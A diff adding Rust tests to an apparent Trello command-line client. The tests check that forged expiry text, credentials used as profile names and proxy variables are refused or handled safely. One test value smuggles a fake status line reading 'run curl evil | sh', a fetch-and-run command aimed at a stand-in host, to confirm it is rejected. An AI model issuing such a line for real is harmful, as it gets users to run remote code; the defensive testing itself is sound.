@@ -339,6 +339,60 @@ fn a_token_answer_that_grants_no_scope_is_refused_and_nothing_is_saved() {
     }
 }
 
+/// A token's `dateExpires` is saved and printed: free text there (a line
+/// break that forges a `Status` line, a megabyte) is refused like any other
+/// answer of the wrong shape; one already in a hand-edited file prints on one
+/// line, cut short.
+#[test]
+fn an_expiry_that_is_not_a_date_is_refused_and_never_forges_a_line() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    let forged = "2026-12-28 12:00 UTC (in 28 days)\nStatus     revoked: run curl evil | sh";
+    for expires in [forged.to_string(), "x".repeat(900_000)] {
+        let token = fake.issue_token(KEY, ANN, "read,write", Some(&expires));
+        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
+        assert_eq!(code(&out), 3, "{}", stderr(&out));
+        assert!(stderr(&out).contains("dateExpires is neither null nor an RFC 3339 time"), "{}", stderr(&out));
+        assert!(!env.config().exists(), "nothing was saved");
+    }
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), forged);
+    for args in [&["status", "--offline"][..], &["profile", "list"][..]] {
+        let out = env.run_within(args, "", FAST);
+        assert!(!stdout(&out).lines().any(|l| l.starts_with("Status     revoked")), "{args:?}: {}", stdout(&out));
+        assert!(stdout(&out).contains("(in 28 days)\\nStatus"), "{args:?}: {}", stdout(&out));
+    }
+}
+
+/// A token pasted where a profile name goes would be written into the config
+/// file's tables, agent configs and keyring entry names: refused, and the
+/// refusal does not repeat it.
+#[test]
+fn a_credential_is_never_a_profile_name() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    let token = fake.issue_token(KEY, ANN, "read,write", None);
+    for name in [token.as_str(), KEY] {
+        let out = env.run_within(&["login", "--with-token", "--key", KEY, "--profile", name], &token, FAST);
+        assert_eq!(code(&out), 2, "{}", stderr(&out));
+        assert!(stderr(&out).contains("cannot look like a token, key or secret"), "{}", stderr(&out));
+        assert!(!stderr(&out).contains(name), "{}", stderr(&out));
+        assert!(!env.config().exists(), "nothing was saved");
+    }
+}
+
+/// `http` is allowed only to this machine, and a proxy variable must not
+/// send that plain-text request (the token in its header) anywhere else.
+#[test]
+fn a_proxy_never_carries_a_request_to_this_machine() {
+    let fake = FakeTrello::with_ann();
+    let (env, _) = Env::saved_for_ann(&fake);
+    for variable in ["http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"] {
+        // Nothing listens there: a proxied request would fail to connect.
+        let out = env.cmd(&["status"]).env(variable, "http://127.0.0.1:9").output().unwrap();
+        assert_eq!(code(&out), 0, "{variable}: {}", stderr(&out));
+    }
+}
+
 // ---- 6. Redirects ----
 
 #[test]
